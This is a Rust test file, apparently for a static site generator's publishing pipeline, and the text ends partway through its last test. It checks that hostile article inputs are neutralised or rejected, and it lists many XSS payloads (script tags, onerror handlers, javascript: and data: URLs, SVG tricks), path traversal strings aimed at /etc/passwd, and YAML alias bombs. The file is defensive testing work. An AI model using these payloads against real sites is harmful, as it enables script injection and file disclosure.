//! Bad inputs by their numbers: what is tried, and what must happen. In every case a second, sound
//! article of the same network is published.

use hexapla::diag::Level;

use super::support::{Outcome, Tree, base_with, body_of, run};

const EN: &str = "content/kites/en.md";
const PAGE: &str = "north/kites/index.html";
const META: &str = "date = 2022-07-28\n\n[facts]\ndays = 2140\n";

/// The base with a second article beside the one that is tried.
fn network<B: AsRef<[u8]>>(files: &[(&str, B)]) -> Tree {
    let mut tree = base_with(files);
    let mut put = |path: &str, text: &str| tree.insert(path.to_owned(), text.into());
    put("content/sound/article.toml", "date = 2022-08-01\nsections = [\"north\"]\n");
    put("content/sound/en.md", "+++\nheadline = \"Sound\"\n+++\n\nA sound article.\n");
    put("content/sound/fr.md", "+++\nheadline = \"Saine\"\n+++\n\nUn article sain.\n");
    tree
}

/// Surveys and publishes; the second article is there, in time, whatever the first is like.
fn published<B: AsRef<[u8]>>(files: &[(&str, B)]) -> Outcome {
    let tree = network(files);
    // As small as the threads that do the work: what overflows there overflows here.
    let run = std::thread::Builder::new().stack_size(2 << 20).spawn(move || run(&tree));
    let outcome = run.expect("a thread").join().expect("no panic");
    for (page, text) in [
        ("north/sound/index.html", "A sound article."),
        ("north/fr/sound/index.html", "Un article"),
    ] {
        let html = outcome.page(page).unwrap_or_else(|| panic!("{page}: {}", outcome.text()));
        assert!(html.contains(text), "{html}");
    }
    assert!(outcome.page("north/atom.xml").expect("a feed").contains("Sound"));
    outcome
}

/// A variant with this body; its page.
fn body(text: impl AsRef<[u8]>) -> (Outcome, String) {
    let front = b"+++\nheadline = \"Kites\"\nslug = \"kites\"\n+++\n\nBefore.\n\n";
    let outcome = published(&[(EN, [front.as_slice(), text.as_ref()].concat())]);
    let html = outcome.page(PAGE).map(|page| body_of(page).to_owned());
    (outcome, html.unwrap_or_default())
}

/// The file is rejected with this code at this line; its page is not published.
fn rejected(outcome: &Outcome, code: &str, path: &str, line: usize) {
    let found = outcome.diagnostics.iter().find(|d| {
        d.rule.code == code
            && d.path.as_deref() == Some(path)
            && d.location.as_ref().map_or(line == 0, |l| l.line == line)
    });
    let found = found.unwrap_or_else(|| panic!("{code} at {path}:{line}:\n{}", outcome.text()));
    assert_eq!(found.rule.level, Level::Error);
    assert!(!outcome.files.contains_key(PAGE), "{code}: the page is there all the same");
}

fn finds(outcome: &Outcome, code: &str, line: usize) {
    let found = outcome.diagnostics.iter().any(|d| {
        d.rule.code == code
            && d.path.as_deref() == Some(EN)
            && d.location.as_ref().is_some_and(|l| l.line == line)
    });
    assert!(found, "{code} at line {line}:\n{}", outcome.text());
}

/// Nothing in this HTML can act: it is of our closed set of elements and attributes, and its
/// addresses have harmless schemes. Reads tags as a browser's tokeniser does.
pub(crate) fn assert_inert(html: &str) {
    const ELEMENTS: &[&str] = &[
        "a",
        "bdi",
        "blockquote",
        "br",
        "code",
        "del",
        "div",
        "em",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "img",
        "li",
        "ol",
        "p",
        "pre",
        "section",
        "span",
        "strong",
        "sup",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
    ];
    const ATTRIBUTES: &[&str] = &[
        "alt",
        "aria-label",
        "class",
        "decoding",
        "dir",
        "height",
        "href",
        "hreflang",
        "id",
        "lang",
        "loading",
        "scope",
        "src",
        "start",
        "tabindex",
        "title",
        "width",
    ];
    let mut rest = html;
    while let Some(open) = rest.find('<') {
        rest = rest[open + 1..].trim_start_matches('/');
        let name = rest.split(|c: char| !c.is_ascii_alphanumeric()).next().unwrap_or_default();
        assert!(ELEMENTS.contains(&name), "<{name}> in {html}");
        rest = rest[name.len()..].trim_start();
        while !rest.starts_with('>') {
            let (attribute, after) = rest.split_once("=\"").unwrap_or_else(|| panic!("{rest}"));
            assert!(ATTRIBUTES.contains(&attribute), "{attribute} in {html}");
            let (value, after) = after.split_once('"').expect("a closing quotation mark");
            if matches!(attribute, "href" | "src") {
                assert_harmless(value, html);
            }
            assert!(!value.contains('<') && !value.contains('>'), "{value} in {html}");
            rest = after.trim_start();
        }
        rest = &rest[1..];
    }
}

fn assert_harmless(address: &str, html: &str) {
    let address = address.replace("&amp;", "&");
    let plain: String = address.chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect();
    assert!(!plain.contains('\\') && !plain.starts_with("//"), "{address} in {html}");
    let stem = plain.split(['/', '?', '#']).next().unwrap_or_default();
    if let Some((scheme, _)) = stem.split_once(':') {
        let scheme = scheme.to_ascii_lowercase();
        assert!(["http", "https", "mailto", "tel"].contains(&scheme.as_str()), "{address}");
    }
}

/// Each text is published with nothing active in it, and none of these words outside of text.
fn neutralised(texts: &[&str]) {
    for text in texts {
        let (outcome, html) = body(format!("{text}\n\nAfter.\n"));
        let page = outcome.page(PAGE);
        assert!(page.is_some() || !outcome.errors().is_empty(), "{text}: held without an error");
        assert_inert(&html);
        assert!(page.is_none() || html.contains("Before."), "{text}: the text before is lost");
        let feed = outcome.page("north/atom.xml").expect("a feed");
        assert!(!feed.to_lowercase().contains("<script"), "{feed}");
    }
}

#[test]
fn fault_061_byte_order_mark() {
    let bom = |path: &str| {
        let bytes = network::<&str>(&[])[path].clone();
        [b"\xEF\xBB\xBF".as_slice(), &bytes].concat()
    };
    let paths = [
        "pipeline.toml",
        EN,
        "content/kites/article.toml",
        "locales/en/site.ftl",
        "content/kites/ar.md",
    ];
    let files: Vec<_> = paths.iter().map(|path| (*path, bom(path))).collect();
    let outcome = published(&files);
    assert_eq!(outcome.text(), "");
    assert_eq!(outcome.files, published::<&str>(&[]).files, "it changes nothing");
    let yaml = "\u{FEFF}---\nheadline: Kites\nslug: kites\n---\nText { $dais }.\n";
    rejected(&published(&[(EN, yaml)]), "unknown-fact", EN, 5);
    let template = "\u{FEFF}{% extends \"base.html\" %}{% block main %}Nothing.{% endblock %}\n";
    let outcome = published(&[("sections/north/templates/not-found.html", template)]);
    assert!(outcome.page("north/404.html").expect("a page").starts_with("<!doctype html>"));
}

#[test]
fn fault_064_nul() {
    let (outcome, _) = body("A zero\0byte.\n");
    rejected(&outcome, "nul-byte", EN, 8);
    rejected(
        &published(&[("content/kites/article.toml", "date = 2022-07-28\0")]),
        "nul-byte",
        "content/kites/article.toml",
        1,
    );
    let outcome = published(&[("locales/fr/more.ftl", "a = A\n\0")]);
    assert!(outcome.has("nul-byte"));
    // Spelt by entities and escapes it gets through the reader, and never into a page.
    let toml = "+++\nheadline = \"A\\u0000\\u0001\\u001b[31mB\"\nstandfirst = \"\\u007F\"\nslug = \"kites\"\n+++\n\nA &#0;, a &#1;, a &#x1b;.\n\n[x](https://a.example/\\&#2;) ![a&#3;](map.svg \"&#4;\")\n";
    let yaml =
        "---\nheadline: \"A\\0\\x01\\eB\"\nstandfirst: \"\\x7F\"\nslug: kites\n---\n\nA &#0;.\n";
    let ftl = "site-name = A{ \"\\u0001\" }B\n";
    for files in [[(EN, toml)], [(EN, yaml)], [("locales/en/more.ftl", ftl)]] {
        let outcome = published(&files);
        for (path, bytes) in &outcome.files {
            let bad = bytes.iter().find(|b| (**b < 32 && !b"\t\n\r".contains(b)) || **b == 127);
            assert_eq!(bad, None, "a control character in {path}");
        }
    }
}

#[test]
fn fault_070_script() {
    neutralised(&[
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "A word <script>alert(1)</script> and another.",
        "<script\n>alert(1)</script\n>",
        "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
        "\\<script>alert(1)\\</script>",
        "- <script>\n  alert(1)\n  </script>",
        "> <script>alert(1)",
        "| <script>alert(1)</script> |\n|---|\n| `<script>` \\| <script> |",
        "```<script>\n<script>alert(1)</script>\n```",
        "``` \"><script>alert(1)</script>\n</code></pre><script>\n```",
        "    <script>alert(1)</script>",
        "`</code><script>alert(1)</script>`",
        "## <script>x</script> {#\"><script>}",
        "## Title {#a\"onmouseover=\"alert(1)}",
        "[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
        "![<script>alert(1)</script>](map.svg \"<script>\")",
        "![a](<map.svg\"><script>> '\"><script>')",
        "[a](https://a.example/\"><script>alert(1)</script>)",
        "[a](<https://a.example/><script>> \"\\\"><script>\")",
        "<https://a.example/\"><script>alert(1)</script>>",
        "<!--><script>alert(1)</script>-->",
        "<!-- --><script>alert(1)</script>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?php echo '<script>' ?><script>",
        "<!DOCTYPE x [<!ENTITY y '<script>'>]>",
        "{ $days }<script>{ $days }</script>",
        "{ NUMBER($days, x: \"<script>alert(1)</script>\") }",
        "</div></article></main><script>alert(1)</script>",
        "&#x3c;/div>\n</article><script>",
    ]);
}

#[test]
fn fault_070_script_in_values() {
    let evil = "<script>alert(1)</script>\\\" onload=x & ' </title>";
    let toml = format!(
        "+++\nheadline = \"{evil}\"\nstandfirst = \"{evil}\"\nteaser = \"{evil}\"\ncredit = \"{evil}\"\nslug = \"kites\"\n\n[alt]\n\"map.svg\" = \"{evil}\"\n\n[section.north]\nteaser = \"{evil}\"\n\n[messages]\nm = \"{evil} {{ $days }}\"\n+++\n\n![](map.svg) {{ m }} {{ $evil }}\n"
    );
    let yaml = format!(
        "---\nheadline: \"{evil}\"\nstandfirst: \"{evil}\"\nteaser: |\n  <script>alert(1)</script>\ncredit: '<script> \" & '\nslug: kites\nalt: {{ map.svg: \"{evil}\" }}\nmessages: {{ m: \"{evil}\" }}\n---\n\n![](map.svg) {{ m }} {{ $evil }}\n"
    );
    let meta =
        format!("authors = [\"{evil}\"]\nlead-image = \"map.svg\"\n{META}evil = \"{evil}\"\n");
    let strings = "site-name = <script>alert(1)</script> \" & '\nsite-tagline = </title><script>\nbyline = <img src=x onerror=alert(1)> { $authors }\nfootnotes-title = <b>\nfootnote-back = \"><script>\n";
    for variant in [toml, yaml] {
        let files = [
            (EN, variant.as_str()),
            ("content/kites/article.toml", &meta),
            ("locales/en/site.ftl", strings),
        ];
        let outcome = published(&files);
        for path in [
            PAGE,
            "north/index.html",
            "north/articles/index.html",
            "north/atom.xml",
            "north/404.html",
        ] {
            let page = outcome.page(path).unwrap_or_else(|| panic!("{path}: {}", outcome.text()));
            // The one script of the page is data, and nothing in it is markup.
            let (before, data) = page
                .split_once("<script type=\"application/ld+json\">")
                .unwrap_or((page, "{}</script>"));
            let (data, after) = data.split_once("</script>").expect("it ends");
            assert!(serde_json::from_str::<serde_json::Value>(data).is_ok(), "{path}: {data}");
            assert!(!data.contains(['<', '>', '&']), "{path}: {data}");
            let page = &format!("{before}{after}");
            assert!(!page.contains("<script"), "{path}: {page}");
            assert!(!page.contains("<img src=x"), "{path}: {page}");
            assert_eq!(page.matches("</title>").count(), page.matches("<title>").count(), "{path}");
            for (ix, _) in page.match_indices(" onload") {
                // In text only: no attribute's value has been closed before.
                let tag = page[..ix].rfind('<').expect("a tag");
                let open = &page[tag..ix];
                assert!(open.contains('>') || open.matches('"').count() % 2 == 1, "{path}: {open}");
            }
        }
        assert_inert(body_of(outcome.page(PAGE).expect("a page")));
    }
}

/// Spellings of an address that must never be a link's or an image's.
fn spelt(address: &str) -> Vec<String> {
    vec![
        format!("[a]({address})"),
        format!("[a](<{address}>)"),
        format!("[a]({address} \"title\")"),
        format!("<{address}>"),
        format!("![a]({address})"),
        format!("![a](<{address}> 'x')"),
        format!("[a][b]\n\n[b]: {address}"),
        format!("[b]\n\n[b]: <{address}> \"x\""),
        format!("![b]\n\n[b]: {address}"),
        format!("| [a]({address}) |\n|---|\n| ![a]({address}) |"),
        format!("[^1]\n\n[^1]: [a]({address})"),
        format!("## [a]({address}) {{#x}}"),
        format!("[![a](map.svg)]({address})"),
        format!("[a **b `c`**]({address})"),
        format!("> - [a]({address})"),
    ]
}

fn no_address(addresses: &[&str], codes: &[&str]) {
    for address in addresses {
        let all = spelt(address).join("\n\n***\n\n");
        let (outcome, html) = body(&all);
        assert_inert(&html);
        assert!(codes.iter().any(|code| outcome.has(code)), "{address}: {:?}", outcome.codes());
        for spelling in spelt(address) {
            let (_, html) = body(&spelling);
            assert_inert(&html);
        }
    }
}

#[test]
fn fault_071_javascript_addresses() {
    no_address(
        &[
            "javascript:alert(1)",
            "java&#9;script:alert(1)",
            "JaVaScRiPt:alert(1)",
            "&#106;avascript&colon;alert(1)",
            "javascript&#x3A;alert(1)",
            "&#1;javascript:alert(1)",
            "&#32;javascript:alert(1)",
            "java&NewLine;script:alert(1)",
            "java&Tab;script&colon;alert(1)",
            "&#x6A&#x61;vascript:x",
            "vbscript:msgbox(1)",
            "javascript://a.example/%0aalert(1)",
            "javascript\\:alert(1)",
            "\\javascript:alert(1)",
            "view-source:javascript:x",
            "blob:https://a.example/x",
            "filesystem:https://a.example/x",
            "file:///etc/passwd",
            "jar:https://a.example!/x",
            "&nbsp;javascript:alert(1)",
            "&#xFEFF;javascript:alert(1)",
        ],
        &["dangerous-url", "broken-link"],
    );
    let (_, html) = body("<javascript:alert(1)> [a](<javascript:alert(1)>)");
    assert!(!html.contains("href"), "{html}");
}

#[test]
fn fault_072_data_addresses() {
    no_address(
        &[
            "data:text/html,<script>alert(1)</script>",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "DATA:image/svg+xml,x",
            "d&#97;ta:text/html,x",
            "data:image/png;base64,iVBORw0KGgo=",
            "&#10;data:x",
        ],
        &["dangerous-url"],
    );
}

#[test]
fn fault_073_event_handlers() {
    neutralised(&[
        "<img src=x onerror=alert(1)>",
        "A <img src=x ONERROR = 'alert(1)'> word",
        "![x](map.svg \"\\\" onerror=\\\"alert(1)\")",
        "![\" onerror=\"alert(1)](map.svg)",
        "![&quot; onerror=&quot;alert(1)](map.svg)",
        "[x](https://a.example/\"onclick=\"alert(1))",
        "[x](https://a.example/&quot;onclick=&quot;alert(1))",
        "[x](https://a.example 'a\" onclick=\"alert(1)')",
        "[x](map.svg '&quot; onclick=&quot;')",
        "[x][y]\n\n[y]: <https://a.example/\" onclick=\"x> (\" onfocus=\"x)",
        "```\" onclick=\"alert(1)\nx\n```",
        "```a\tonclick=\"x\"\nx\n```",
        "~~~x\"onclick=\"y\nz\n~~~",
        "## x {#a onclick=\"x\"}",
        "## x {#a .b onclick=x}",
        "<details open ontoggle=alert(1)>x</details>",
        "<a href=\"#\" onclick=\"x\">x</a>",
    ]);
}

#[test]
fn fault_074_svg() {
    neutralised(&[
        "<svg><animate onbegin=alert(1) attributeName=x></svg>",
        "<svg><a><set attributeName=href to=javascript:alert(1)></a></svg>",
        "<svg/onload=alert(1)>",
        "x <svg><use href=\"data:image/svg+xml,x#y\"/></svg>",
        "<svg><foreignObject><iframe src=javascript:x></iframe></foreignObject></svg>",
    ]);
    let namespace = "xmlns=\"http://www.w3.org/2000/svg\" xmlns:s=\"http://www.w3.org/2000/svg\"";
    for inner in [
        "<animate onbegin='x'/>",
        "<s:animate attributeName=\"href\"/>",
        "<s:script>alert(1)</s:script>",
        "<script\n>x</script>",
        "<S:SET to=\"x\"/>",
        "<a xlink:href=\"https://evil.example/\"/>",
        "<g onload\n=\n'x'/>",
        "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'/></foreignObject>",
        "<style>@import 'https://evil.example/x.css'</style>",
    ] {
        let svg = format!("<svg {namespace}>{inner}</svg>");
        let outcome = published(&[("content/kites/map.svg", svg)]);
        assert!(outcome.has("unsafe-svg"), "{inner}");
        assert!(!outcome.files.keys().any(|path| path.contains("assets/map.")), "{inner}");
        assert_inert(body_of(outcome.page(PAGE).expect("a page")));
    }
}

#[test]
fn fault_075_math() {
    neutralised(&[
        "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
        "x <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<math href=\"javascript:alert(1)\">x</math>",
        "$<script>alert(1)</script>$ $$\\href{javascript:alert(1)}{x}$$",
    ]);
}

#[test]
fn fault_076_styles() {
    neutralised(&[
        "<div style=\"position:fixed;inset:0\">x</div>",
        "<style>body{display:none}</style>",
        "x <b style='position:fixed'>y</b>",
        "## x {#a style=\"position:fixed\"}",
        "```{style=\"position:fixed\"}\nx\n```",
        "| a |\n|:-:|\n| <td style=x> |",
        "<link rel=stylesheet href=//evil.example/x.css>",
    ]);
}

#[test]
fn fault_077_frames_and_heads() {
    neutralised(&[
        "<iframe src=//evil.example></iframe>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
        "x <iframe srcdoc=\"<script>alert(1)</script>\"> y",
        "<object data=x></object> <embed src=x> <frameset><frame src=x></frameset>",
        "</body></html><head><base href=x>",
        "<template><script>x</script></template> <noscript><p title=\"</noscript><script>x\">",
        "<title>x</title><textarea>",
        "<plaintext>",
        "<xmp><script>",
    ]);
}

#[test]
fn fault_078_forms_and_clobbering() {
    neutralised(&[
        "<form action=//evil.example><input name=password></form>",
        "<form id=x></form><button form=x formaction=javascript:alert(1)>",
        "<a id=location name=cookie href=x>x</a>",
        "<img name=getElementById>",
        "- [ ] task <input type=checkbox>",
        "<isindex action=x>",
        "## x {#hx-main}",
    ]);
    let (_, html) = body("## One {#cookie}\n\n## Two {#location}\n\n## Three {#hx-ref-1}\n");
    // Headings are not among the elements that `document` and forms look up by name.
    assert!(html.contains("<h2 id=\"cookie\">") && !html.contains("id=\"hx-ref-1\""), "{html}");
    assert!(!html.contains(" name="));
}

#[test]
fn fault_079_fifty_thousand_quotes() {
    for run in [">", "> ", "+ ", "+\t", "1. ", "1) ", "> - 1. "] {
        rejected(&body(run.repeat(50_000)).0, "markdown-too-deep", EN, 8);
    }
    // These are thematic breaks, and a dotted line is prose.
    for run in ["- ", "* ", "-\t", ".", ". ", "-"] {
        let (outcome, html) = body(format!("{}\n\nAfter.\n", run.repeat(2_000)));
        assert!(run == ". " || outcome.errors().is_empty(), "{run:?}: {}", outcome.text());
        assert!(run == ". " || html.contains("After."), "{run:?}");
    }
    body("- ".repeat(50_000));
    for text in [
        (0..2_000).map(|ix| format!("{}- x\n", "  ".repeat(ix))).collect::<String>(),
        "*a **b ".repeat(20_000),
        "[^a]: ".repeat(20_000),
        "![".repeat(20_000),
        "> - [^a]: ".repeat(2_000),
    ] {
        body(&text);
    }
}

#[test]
fn fault_080_fifty_thousand_divs() {
    for text in
        ["<div>".repeat(50_000), "<div>\n\n".repeat(50_000), format!("x {}", "<b>".repeat(50_000))]
    {
        let (outcome, html) = body(&text);
        assert!(outcome.has("raw-html") || outcome.has("too-many-parts"));
        assert_inert(&html);
    }
}

#[test]
fn fault_082_a_hundred_thousand_brackets() {
    for text in [
        "[".repeat(100_000),
        "[a](".repeat(20_000),
        "[a][".repeat(20_000),
        "*_".repeat(50_000),
        "`".repeat(100_000),
        "`a``".repeat(20_000),
        "<!--".repeat(20_000),
        "{".repeat(100_000),
        "{ $days }".repeat(20_000),
        "{ NUMBER(".repeat(10_000),
        "\\".repeat(100_000),
        "&".repeat(100_000),
        "| a ".repeat(20_000),
        "~".repeat(100_000),
    ] {
        let (outcome, html) = body(&text);
        assert_inert(&html);
        let held = outcome.page(PAGE).is_none();
        assert_eq!(held, !outcome.errors().is_empty(), "{}: {:?}", &text[..8], outcome.codes());
    }
}

#[test]
fn fault_084_paths_outside() {
    for path in [
        "../../../../etc/passwd",
        "../../pipeline.toml",
        "%2e%2e/%2E%2e/pipeline.toml",
        "..%2f..%2f..%2fetc/passwd",
        "a/../../../../x.png",
        "../..",
        "../../locales/en/site.ftl",
        "./../../../x.png",
        ".&#46;/../../x",
        "../../content2/x.png",
        "../../contents",
    ] {
        for text in [format!("![a]({path})"), format!("[a]({path})"), format!("[a]\n\n[a]: {path}")]
        {
            let (outcome, _) = body(&text);
            rejected(&outcome, "path-outside-root", EN, 8);
            assert!(
                !outcome.has("missing-asset") && !outcome.has("broken-link"),
                "{path}: said twice"
            );
        }
    }
    for path in [
        "..\\..\\..\\etc\\passwd",
        "/etc/passwd",
        "/../../etc/passwd",
        "%00",
        "....//....//x",
        "..%5c..%5cx",
    ] {
        let (_, html) = body(format!("![a](<{path}>) [b](<{path}>)"));
        assert_inert(&html);
        assert!(!html.contains("passwd") && !html.contains("src="), "{path}: {html}");
    }
    for lead in ["../../pipeline.toml", "/etc/passwd", "..", "../sound/en.md", "en.md"] {
        let outcome = published(&[(
            "content/kites/article.toml",
            format!("lead-image = \"{lead}\"\n{META}"),
        )]);
        assert!(outcome.has("missing-asset"), "{lead}");
        assert!(!outcome.page(PAGE).expect("a page").contains("<figure"), "{lead}");
    }
}

#[test]
fn fault_086_template_syntax_in_prose() {
    let prose = "{{ site.name }} {% include \"x\" %} {# no #} {{ 7*7 }} ${x} <%= x %> {{{ x }}}";
    let text = format!(
        "+++\nheadline = '{prose}'\nstandfirst = '{prose}'\nslug = \"kites\"\n+++\n\n{prose}\n\n`{prose}`\n\n## {prose} {{#x}}\n"
    );
    let strings = "site-name = {\"{{\"} 7*7 {\"}}\"} {\"{%\"} x %{\"}\"}\nsite-tagline = T\ntopic-report = R\n";
    let outcome = published(&[(EN, text.as_str()), ("locales/en/site.ftl", strings)]);
    assert!(outcome.errors().is_empty(), "{}", outcome.text());
    let page = outcome.page(PAGE).expect("a page").to_owned();
    let literal = prose.replace('"', "&quot;").replace("<%", "&lt;%").replace("%>", "%&gt;");
    assert!(page.matches(&literal).count() >= 5, "{page}");
    assert!(page.contains("{{ 7*7 }}") && !page.contains(" 49 "), "{page}");
}

#[test]
fn fault_088_other_hosts_in_disguise() {
    no_address(
        &[
            "//evil.example/",
            "/\\evil.example",
            "\\\\\\\\evil.example",
            "\\/evil.example",
            "/&#9;/evil.example",
            "&#9;//evil.example",
            "/&sol;evil.example",
            "&#47;&#47;evil.example",
            "///evil.example",
            "/&#10;\\evil.example",
            "&#1;//evil.example",
            "/&bsol;evil.example",
        ],
        // Two of them are a path of this site, as browsers see them too.
        &["protocol-relative-link", "broken-link"],
    );
    for address in ["https:evil.example", "https:/evil.example", "http:\\evil", "https&colon;evil"]
    {
        assert_inert(&body(spelt(address).join("\n\n***\n\n")).1);
    }
    rejected(&body("[a](//evil.example/)").0, "protocol-relative-link", EN, 8);
}

#[test]
fn fault_089_broken_internal_links() {
    let (outcome, html) =
        body("[a](../nowhere/) ok\n\n[b](missing.pdf) ![c](missing.png) [d](/x) [e](de.md)");
    finds(&outcome, "broken-link", 8);
    finds(&outcome, "broken-link", 10);
    finds(&outcome, "missing-asset", 10);
    assert!(!html.contains("href") && !html.contains("<img"), "{html}");
    assert!(html.contains("a ok") && html.contains("b c d e"), "the text stays: {html}");
}

#[test]
fn fault_090_alias_bomb() {
    let mut yaml = String::from("---\na0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
    for ix in 1..12 {
        let list = vec![format!("*a{}", ix - 1); 10].join(", ");
        yaml.push_str(&format!("a{ix}: &a{ix} [{list}]\n"));
    }
    yaml.push_str("headline: *a11\n---\n\nText.\n");
    let outcome = published(&[(EN, yaml)]);
    assert!(outcome.has("yaml-syntax"), "{}", outcome.text());
    assert!(!outcome.files.contains_key(PAGE));
    let merge = "---\na: &a { headline: Kites }\nb: &b\n  <<: [*a, *a]\n<<: *b\nslug: kites\n---\n\nText.\n";
    let own = "---\nheadline: &a [*a]\n---\n\nText.\n";
    let text = format!(
        "---\nheadline: &a \"{}\"\nx: [{}]\n---\n\nText.\n",
        "x".repeat(10_000),
        vec!["*a"; 5_000].join(",")
    );
    for yaml in [merge, own, &text] {
        published(&[(EN, yaml)]);
    }
}

#[test]
fn fault_091_depth() {
    let deep = 100_000;
    let open = |c: &str| c.repeat(deep);
    let toml = |value: &str| format!("+++\nheadline = \"Kites\"\n{value}\n+++\n\nText.\n");
    let yaml = |value: &str| format!("---\nheadline: Kites\n{value}\n---\n\nText.\n");
    for text in [
        toml(&format!("x = {}", open("["))),
        toml(&format!("x = {}{}", open("["), open("]"))),
        toml(&format!("x = {}", "{a=".repeat(deep))),
        yaml(&format!("x: {}", open("["))),
        yaml(&format!("x: {}", "{a: ".repeat(deep))),
    ] {
        rejected(&published(&[(EN, text)]), "data-too-deep", EN, 3);
    }
    for text in [
        toml(&format!("{}x = 1", "a.".repeat(deep))),
        toml(&format!("[{}x]", "a.".repeat(deep))),
        toml(&format!("[[{}x]]", "a.".repeat(deep))),
        toml(&format!("x = {{ {}x = 1 }}", "a.".repeat(deep))),
        // A line of quotation marks hides the brackets from the count that comes first.
        toml(&format!("x = [\"\"\"\ny\"\"\", {}", open("["))),
        toml(&format!("x = [\"\"\"\ny\"\"\", {}", "{a=".repeat(deep))),
        yaml(&format!("x: {}", "- ".repeat(deep))),
        yaml(&format!("x:\n{}", "- ".repeat(deep))),
        yaml(&open("? ")),
        yaml(&(0..2_000).map(|ix| format!("{}a:\n", " ".repeat(ix))).collect::<String>()),
        yaml(&format!("x: ['a', \"\n\", {}", open("["))),
    ] {
        let outcome = published(&[(EN, text.as_str())]);
        assert!(!outcome.errors().is_empty(), "{:?}", &text[..text.len().min(60)]);
        assert!(!outcome.files.contains_key(PAGE), "{:?}", &text[..60]);
    }
    let meta = format!("{META}{}x = 1\n", "a.".repeat(deep));
    let outcome = published(&[("content/kites/article.toml", meta)]);
    assert!(
        outcome.has("toml-syntax") && !outcome.files.contains_key(PAGE),
        "{:?}",
        outcome.codes()
    );
}

#[test]
fn fault_092_duplicate_keys() {
    for (text, code, line) in [
        ("+++\nheadline = \"A\"\nheadline = \"B\"\n+++\n\nText.\n", "toml-syntax", 3),
        ("+++\nheadline = \"A\"\n\"headline\" = \"B\"\n+++\n\nText.\n", "toml-syntax", 3),
        ("+++\nheadline = \"A\"\n[alt]\na = \"b\"\n[alt]\n+++\n\nText.\n", "toml-syntax", 5),
        ("+++\nheadline = \"A\"\nalt = { a = \"x\", a = \"y\" }\n+++\n\nText.\n", "toml-syntax", 3),
        ("---\nheadline: A\nheadline: B\n---\n\nText.\n", "yaml-syntax", 3),
        ("---\nheadline: A\n\"headline\": B\n---\n\nText.\n", "yaml-syntax", 3),
        ("---\nheadline: A\nalt: { a: x, a: y }\n---\n\nText.\n", "yaml-syntax", 3),
    ] {
        rejected(&published(&[(EN, text)]), code, EN, line);
    }
    let outcome =
        published(&[("content/kites/article.toml", format!("date = 2022-07-29\n{META}"))]);
    rejected(&outcome, "toml-syntax", "content/kites/article.toml", 2);
}

#[test]
fn fault_094_dates() {
    for date in [
        "\"2022-02-30\"",
        "\"2022-13-01\"",
        "\"99999-01-01\"",
        "\"2022-07-281\"",
        "\"-001-01-01\"",
        "\"999999999999999999\"",
        "\"\"",
        "\"2022-07-2８\"",
        "\"28/07/2022\"",
        "\"2023-02-29T00:00:00Z\"",
    ] {
        let outcome = published(&[("content/kites/article.toml", format!("date = {date}\n"))]);
        rejected(&outcome, "bad-date", "content/kites/article.toml", 1);
    }
    for date in ["2022-02-30", "2022-13-01", "99999-01-01", "2022-07-28T25:00:00Z"] {
        let outcome = published(&[("content/kites/article.toml", format!("\n\ndate = {date}\n"))]);
        assert!(
            outcome.has("toml-syntax") || outcome.has("bad-date"),
            "{date}: {}",
            outcome.text()
        );
        assert!(!outcome.files.contains_key(PAGE), "{date}");
    }
    for embargo in [
        "\"9999999-01-01T00:00:00Z\"",
        "\"2022-07-28T10:00:00\"",
        "12345678901234567890",
        "\"now\"",
    ] {
        let outcome =
            published(&[("content/kites/article.toml", format!("embargo = {embargo}\n{META}"))]);
        assert!(!outcome.errors().is_empty() && !outcome.files.contains_key(PAGE), "{embargo}");
    }
    for date in ["0000-01-01", "9999-12-31", "\"2024-02-29\"", "2022-07-28T23:59:59-12:00"] {
        let outcome = published(&[(
            "content/kites/article.toml",
            format!("date = {date}\n[facts]\ndays = 1\n"),
        )]);
        assert_eq!(outcome.text(), "", "{date}");
    }
}

#[test]
fn fault_095_unclosed_fences() {
    for (text, fence) in [
        ("+++\nheadline = \"Kites\"\n\nText.\n", "+++"),
        ("---\nheadline: Kites\n\nText.\n", "---"),
        ("+++\nheadline = \"Kites\"\n---\n\nText.\n", "+++"),
        ("+++\nheadline = \"Kites\"\n +++\n\nText.\n", "+++"),
        ("+++", "+++"),
        ("---\r\n", "---"),
        ("\u{FEFF}+++\nheadline = \"Kites\"\n++++\n", "+++"),
    ] {
        let outcome = published(&[(EN, text)]);
        rejected(&outcome, "front-matter-unclosed", EN, 1);
        assert!(outcome.text().contains(&format!("“{fence}”")), "{}", outcome.text());
    }
}

#[test]
fn fault_096_output_paths() {
    for slug in [
        "../..",
        "..",
        ".",
        "/etc",
        "a/b",
        "a\\\\b",
        "%2e%2e",
        "",
        " ",
        "a b",
        "-a",
        "a\\u0000",
        "a.html",
        "a?b",
        "a#b",
        "a:b",
        "\\u202Ea",
        "\\uFF0E\\uFF0E",
        "\\u2024\\u2024",
        "a\\u200B",
        "a&b",
        "<script>",
        "~root",
        "a\\n",
    ] {
        let text = format!("+++\nheadline = \"Kites\"\nslug = \"{slug}\"\n+++\n\nText.\n");
        let outcome = published(&[(EN, text)]);
        rejected(&outcome, "bad-slug", EN, 3);
        for path in outcome.files.keys() {
            assert!(!path.contains("..") && !path.contains("//"), "{slug}: {path}");
        }
    }
    for id in ["content/a b/en.md", "content/a;b/en.md"] {
        let outcome = published(&[(id, "+++\nheadline = \"x\"\n+++\n\nText.\n")]);
        assert!(outcome.has("bad-slug"), "{id}");
    }
    for pipeline in ["id = \"../x\"", "id = \"..\"", "id = \"a/b\"", "id = \"/x\"", "id = \"\""] {
        let base =
            String::from_utf8(base_with::<&str>(&[])["pipeline.toml"].clone()).expect("text");
        let tree = base_with(&[("pipeline.toml", base.replace("id = \"north\"", pipeline))]);
        let outcome = run(&tree);
